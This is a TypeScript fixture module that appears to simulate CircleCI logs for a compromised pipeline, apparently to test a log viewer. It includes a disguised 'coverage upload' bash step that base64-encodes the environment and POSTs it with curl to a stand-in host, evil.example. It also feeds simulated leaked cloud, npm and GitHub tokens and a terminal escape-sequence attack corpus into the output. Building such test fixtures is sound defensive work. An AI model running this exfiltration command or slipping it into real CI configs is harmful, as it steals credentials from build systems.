import { SIM_LEAKS } from '../leaked-secrets.js';
import { SIM_MALICIOUS, SIM_PROJECT } from '../story.js';
import { iso } from '../time.js';
import { bold, green } from './ansi.js';
import { err, out, rawJsonString, type LogLine, type OutputMessage } from './messages.js';
import {
  CORPUS_LONG_LINE_BYTES,
  CORPUS_SPLIT_SEQUENCE,
  CORPUS_UNTERMINATED_OSC,
  TERMINAL_ATTACK_CORPUS,
  type PayloadPart,
} from './terminal-attack-corpus.js';

// Output of the two compromised steps of pipeline 896.

/** What `env` printed inside job 5015 before it was base64-encoded and sent to evil.example. */
export const SIM_EXFIL_ENV_DUMP = [
  `AWS_ACCESS_KEY_ID=${SIM_LEAKS.awsAccessKeyId}`,
  `AWS_SECRET_ACCESS_KEY=${SIM_LEAKS.awsSecretAccessKey}`,
  `NPM_TOKEN=${SIM_LEAKS.npmToken}`,
  `SLACK_WEBHOOK=${SIM_LEAKS.slackWebhook}`,
  `GITHUB_TOKEN=${SIM_LEAKS.githubToken}`,
  `CIRCLE_BRANCH=${SIM_MALICIOUS.branch}`,
  'CIRCLE_JOB=test',
  'HOME=/home/circleci',
  '',
].join('\n');

export const MALICIOUS_BASH_COMMAND = [
  '#!/bin/bash -eo pipefail',
  'echo "Uploading coverage report..."',
  "env | grep -E '^(AWS_|NPM_)'",
  `env | base64 -w 76 | tee /tmp/coverage-meta.b64 | curl -sS -X POST --data-binary @- ${SIM_MALICIOUS.exfilUrl}`,
  'cat /tmp/coverage-meta.b64',
  'cat coverage/terminal-report.txt',
  '',
].join('\n');

function base64Lines(text: string): string[] {
  return Buffer.from(text, 'utf8').toString('base64').match(/.{1,76}/g) ?? [];
}

/** A message of one or more labelled lines that may contain raw (non-UTF-8) bytes. */
function corpusMessage(parts: PayloadPart[], time: string): OutputMessage {
  const hasRaw = parts.some((p) => typeof p !== 'string');
  const message = parts.map((p) => (typeof p === 'string' ? p : Buffer.from(p).toString('latin1'))).join('');
  return hasRaw ? { message, time, type: 'out', rawMessage: rawJsonString(parts) } : { message, time, type: 'out' };
}

export function maliciousUploadMessages(startMs: number, endMs: number): OutputMessage[] {
  const head: LogLine[] = [
    out('Uploading coverage report...'),
    out(`AWS_ACCESS_KEY_ID=${SIM_LEAKS.awsAccessKeyId}`),
    out(`AWS_SECRET_ACCESS_KEY=${SIM_LEAKS.awsSecretAccessKey}`),
    out(`NPM_TOKEN=${SIM_LEAKS.npmToken}`),
    out('{"status":"ok","received":4182}'),
    ...base64Lines(SIM_EXFIL_ENV_DUMP).map((l) => out(l)),
    out(''),
    out(bold('=============================== Coverage summary ===============================')),
    out(`Statements   : ${green('91.24%')} ( 2841/3114 )`),
    out(`Branches     : ${green('84.02%')} ( 905/1077 )`),
    out(`Functions    : ${green('89.71%')} ( 532/593 )`),
    out(`Lines        : ${green('91.60%')} ( 2760/3013 )`),
    out(bold('================================================================================')),
    out(''),
    out(`Terminal report for ${SIM_PROJECT}:`),
  ];
  const bodies: PayloadPart[][] = [];
  bodies.push([head.map((l) => `${l.text}\r\n`).join('')]);
  for (const row of TERMINAL_ATTACK_CORPUS) {
    row.variants.forEach((variant, i) => {
      const tag = row.variants.length > 1 ? `${row.id}.${i + 1}` : row.id;
      bodies.push([`[${tag}] ${row.label}: `, ...variant, '\r\n']);
    });
    if (row.id === 'I2') {
      bodies.push([`[I3] sequence split across messages: ${CORPUS_SPLIT_SEQUENCE[0]}`]);
      bodies.push([`${CORPUS_SPLIT_SEQUENCE[1]}\r\n`]);
    }
    if (row.id === 'J6') {
      // A 1 MiB line without any newline, spread over four messages.
      const quarter = 'A'.repeat(CORPUS_LONG_LINE_BYTES / 4);
      bodies.push([`[J6.2] ${CORPUS_LONG_LINE_BYTES} bytes with no newline: `, quarter]);
      bodies.push([quarter], [quarter]);
      bodies.push([quarter, '\r\n']);
    }
  }
  bodies.push([`[E9] unterminated OSC, the rest of the log follows: ${CORPUS_UNTERMINATED_OSC}\r\n`]);
  bodies.push(['Coverage report uploaded.\r\n']);
  bodies.push(['Done in 3.21s.\r\n']);
  const step = (endMs - startMs) / bodies.length;
  return bodies.map((parts, i) => corpusMessage(parts, iso(startMs + Math.floor(step * (i + 1)))));
}

/** Job 5016 "Run linter": a helper script echoes a clone URL carrying a GitHub token, then npm fails. */
export const LINT_BASH_COMMAND = '#!/bin/bash -eo pipefail\nnpm run lint\n';

/** `startMs`: when the step started (npm names its debug log after the time it gave up, a few seconds later). */
export function leakingLintLines(startMs: number): LogLine[] {
  const npmLog = iso(startMs + 4_650).replace(/[:.]/g, '_');
  const url = `https://x-access-token:${SIM_LEAKS.githubToken}@github.com/acme/eslint-rules.git`;
  return [
    out(''),
    out('> payments@2.14.0 lint'),
    out('> node scripts/fetch-lint-rules.mjs && eslint . --max-warnings=0'),
    out(''),
    out('Fetching shared lint rules...'),
    err(`Error: Command failed: git clone --depth 1 ${url} .lint-rules`),
    err('remote: Repository not found.'),
    err("fatal: repository 'https://github.com/acme/eslint-rules.git/' not found"),
    err(''),
    err('    at genericNodeError (node:internal/errors:983:15)'),
    err('    at checkExecSyncError (node:child_process:892:11)'),
    err('    at execSync (node:child_process:964:15)'),
    err('    at file:///home/circleci/project/scripts/fetch-lint-rules.mjs:14:3'),
    err('npm ERR! code 1'),
    err('npm ERR! path /home/circleci/project'),
    err('npm ERR! command failed'),
    err('npm ERR! command sh -c node scripts/fetch-lint-rules.mjs && eslint . --max-warnings=0'),
    err(''),
    err(`npm ERR! A complete log of this run can be found in: /home/circleci/.npm/_logs/${npmLog}-debug-0.log`),
    out(''),
    out('Exited with code exit status 1'),
  ];
}
